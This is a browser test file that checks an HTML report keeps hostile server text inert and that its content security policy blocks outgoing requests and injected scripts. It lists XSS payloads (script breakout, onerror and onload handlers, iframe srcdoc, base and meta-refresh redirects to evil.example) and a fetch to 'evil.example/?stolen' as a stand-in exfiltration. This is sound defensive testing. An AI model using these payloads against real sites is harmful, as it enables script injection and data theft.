import type { Browser } from "playwright-core";
import { afterAll, beforeAll, expect, it } from "vitest";
import { sampleReport, stoppedReport } from "../unit/report/sample-report.ts";
import { inChromium } from "./chromium.ts";
import { openLog, openReport } from "./open-page.ts";

const HOSTILE = [
  "</script><script>window.hacked = 1</script>",
  '<img src="https://evil.example/x.png" onerror="window.hacked = 1">',
  "--></style></pre></code></details><svg onload=window.hacked=1><!--",
  '" onmouseover="window.hacked=1" x="',
  "javascript:window.hacked=1 `<iframe srcdoc='<script>parent.hacked=1</script>'>",
  "<base href=https://evil.example/><meta http-equiv=refresh content='0;url=https://evil.example/'>",
  "\u202egnp.exe\u2066 \u001b[31mred\u001b[0m \u0000 \u2028 \u2029 \ud800 \ufeff",
];

/** Control characters but for line feeds, what turns a line round, half characters, odd line ends. */
const UNSAFE = /(?!\n)[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]/u;

inChromium("hostile text of a server in the HTML report", (launch) => {
  let browser: Browser;
  beforeAll(async () => {
    browser = await launch();
  });
  afterAll(() => browser?.close());

  it.each(HOSTILE)("stays text: %j", (said) => staysText(sampleReport, said));

  it("stays text where a run was stopped", () => staysText(stoppedReport, HOSTILE.join(" ")));

  /** How many elements a report of a harmless server has. */
  const harmless = new Map<unknown, number>();

  async function staysText(make: typeof sampleReport, said: string): Promise<void> {
    if (!harmless.has(make)) {
      const { page, close } = await openReport(browser, make({ said: "all is well" }));
      harmless.set(make, await page.locator("body *").count());
      await close();
    }
    const { page, trouble, close } = await openReport(browser, make({ said }));
    expect(await page.locator("body *").count()).toBe(harmless.get(make));
    await page.evaluate("for (const one of document.querySelectorAll('details')) one.open = true");
    await openLog(page);
    await page.evaluate("for (const one of document.querySelectorAll('.log-row')) one.open = true");
    expect(await page.evaluate("window.hacked")).toBeUndefined();
    expect(await page.locator("main img, main iframe, main script:not([type]), base").count()).toBe(0);
    expect(trouble).toEqual([]);
    expect(await page.textContent("main")).not.toMatch(UNSAFE);
    await close();
  }

  it("could send nothing away even if it became a script", async () => {
    const { page, close } = await openReport(browser, sampleReport());
    await page.context().setOffline(false);
    const refused = await page.evaluate(`new Promise((tell) => {
      document.addEventListener("securitypolicyviolation", (event) => tell(event.effectiveDirective));
      fetch("https://evil.example/?stolen").catch(() => {});
    })`);
    expect(refused).toBe("connect-src");
    const script = await page.evaluate(`new Promise((tell) => {
      document.addEventListener("securitypolicyviolation", (event) => tell(event.effectiveDirective));
      document.body.append(Object.assign(document.createElement("script"), { textContent: "hacked = 1" }));
    })`);
    expect(script).toMatch(/^script-src/);
    await close();
  });
});
